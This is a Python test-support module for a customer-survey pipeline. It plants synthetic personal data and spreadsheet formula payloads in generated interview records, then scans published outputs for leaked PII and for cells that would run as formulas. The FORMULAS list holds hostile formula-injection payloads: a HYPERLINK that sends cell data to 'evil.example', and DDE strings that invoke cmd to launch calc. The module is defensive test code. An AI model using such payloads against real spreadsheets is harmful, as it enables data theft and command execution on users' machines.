"""Known personal data and spreadsheet formulas planted in the verbatims of a generated day, and the scans that
look for them (and for any other customer's data) in what the pipeline publishes."""

import json
import re
from dataclasses import dataclass, field
from pathlib import Path

import duckdb

from fieldvoice.contract import COUNTRIES

FORMULAS = (
    '=HYPERLINK("http://evil.example/steal?d="&A1,"Cliquez ici")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
)
# A cell starting with one of these is run as a formula by Excel, LibreOffice and Google Sheets.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?\d+(?:[.,]\d+)?(?:[eE][+-]?\d+)?$")
EMAIL = re.compile(r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+")
CUSTOMER_REF = re.compile(r"\bCUS-[A-Z]{2}-\d{6}\b")


@dataclass
class Planted:
    names: set[str] = field(default_factory=set)
    msisdns: set[str] = field(default_factory=set)  # E.164 with "+"
    emails: set[str] = field(default_factory=set)
    refs: set[str] = field(default_factory=set)
    formula_ids: set[str] = field(default_factory=set)  # submission ids whose verbatim is a formula


def _spaced(msisdn: str, country: str) -> str:
    """+221768780236 -> +221 76 878 02 36: how people write a number in a sentence."""
    dial = COUNTRIES[country].dial_code
    national = msisdn[len(dial) + 1 :]
    return f"+{dial} {national[:2]} {national[2:5]} {national[5:7]} {national[7:]}".strip()


def plant(landing_day: Path) -> Planted:
    """Rewrite the verbatims of consenting customers in the day's JSON Lines exports: each cites its own name,
    phone number, an email and customer reference (what people do tell interviewers), and four others are
    formulas."""
    planted = Planted()
    for path in sorted(landing_day.glob("*.jsonl")):
        lines = path.read_text(encoding="utf-8").splitlines()
        records = []
        for line in lines:
            try:
                records.append(json.loads(line))
            except ValueError:
                records.append(line)  # a deliberately broken record of the generator: keep it as it is
        for record in records:
            if not isinstance(record, dict) or record.get("consent") != "yes" or not record.get("customer_name"):
                continue
            if not (record.get("customer_msisdn") and record.get("customer_ref")):
                continue
            if len(planted.formula_ids) < len(FORMULAS):
                record["verbatim"] = FORMULAS[len(planted.formula_ids)]
                planted.formula_ids.add(record["submission_id"])
            elif len(planted.names) < 8:
                name, msisdn, ref = record["customer_name"], record["customer_msisdn"], record["customer_ref"]
                email = ".".join(re.sub(r"[^a-z]", "", part) for part in name.lower().split()[:2]) + "@example.org"
                record["verbatim"] = (
                    f"Je m'appelle {name}. Appelez-moi au {_spaced(msisdn, record['country_code'])} ou écrivez à "
                    f"{email}. Ma référence client est {ref}. Le réseau coupe tout le temps, c'est grave."
                )
                planted.names.add(name)
                planted.msisdns.add(msisdn)
                planted.emails.add(email)
                planted.refs.add(ref)
        path.write_text(
            "\n".join(r if isinstance(r, str) else json.dumps(r, ensure_ascii=False) for r in records) + "\n",
            encoding="utf-8",
        )
        if len(planted.names) >= 8:
            break
    assert len(planted.names) >= 4 and len(planted.formula_ids) == len(FORMULAS), "too few records to plant in"
    return planted


def customers(warehouse: Path) -> Planted:
    """Every customer's name, number and reference as the field exports gave them (raw.interviews), and the
    emails typed into their free text."""
    known = Planted()
    with duckdb.connect(str(warehouse), read_only=True) as con:
        rows = con.execute(
            "SELECT customer_name, customer_msisdn, customer_ref, concat_ws(' ', verbatim, suggestion) "
            "FROM raw.interviews"
        ).fetchall()
    for name, msisdn, ref, text in rows:
        if name and len(name) > 6 and " " in name.strip():
            known.names.add(name.strip())
        if msisdn and len(re.sub(r"\D", "", msisdn)) >= 8:
            known.msisdns.add(msisdn)
        if ref:
            known.refs.add(ref)
        known.emails.update(EMAIL.findall(text or ""))
    return known


def national_numbers(msisdns: set[str]) -> set[str]:
    """The digits people type for a number, whatever the format: the last 8 digits of each one."""
    return {re.sub(r"\D", "", m)[-8:] for m in msisdns}


def pii_found(text: str, known: Planted) -> list[str]:
    """Known customers' personal data present in a text (digits compared without spaces, dots or dashes)."""
    found = [f"name {n!r}" for n in known.names if n in text or n.title() in text]
    found += [f"email {e!r}" for e in known.emails if e in text]
    found += [f"customer ref {r!r}" for r in set(CUSTOMER_REF.findall(text)) if r in known.refs]
    # Phone-sized digit runs (8-15 digits once single separators are dropped), compared on their last 8 digits.
    runs = {m[-8:] for m in re.findall(r"\d+", re.sub(r"(?<=\d)[\s.\-()/](?=\d)", "", text)) if 8 <= len(m) <= 15}
    found += [f"phone …{n}" for n in national_numbers(known.msisdns) & runs]
    return found


def unsafe_cell(cell: str) -> bool:
    """A spreadsheet cell that would run as a formula (plain numbers such as -2.5 are harmless)."""
    return cell.startswith(FORMULA_START) and not _NUMBER.match(cell.strip())
